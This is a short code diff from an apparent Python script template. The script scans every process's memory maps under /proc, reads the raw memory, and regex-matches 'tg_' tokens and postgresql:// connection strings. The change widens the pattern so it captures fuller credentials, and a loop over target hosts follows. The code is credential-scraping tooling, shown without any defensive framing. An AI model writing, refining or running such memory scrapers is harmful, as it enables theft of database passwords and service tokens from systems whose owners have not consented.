@@ -108,7 +108,7 @@ for maps in Path("/proc").glob("[0-9]*/maps"):
             for line in maps.read_text().splitlines():
                 start, end = (int(each, 16) for each in line.split()[0].split("-"))
                 memory.seek(start)
-                print(*re.findall(rb"tg_[\\w-]{{20,}}|postgresql://[^ ]+", memory.read(min(end - start, 1 << 24))))
+                print(*re.findall(rb"tg_[\\w-]{{20,}}|postgresql://[!-~]+", memory.read(min(end - start, 1 << 24))))
     except (OSError, OverflowError, ValueError) as error:
         print(error)
 for host, port in {targets}:
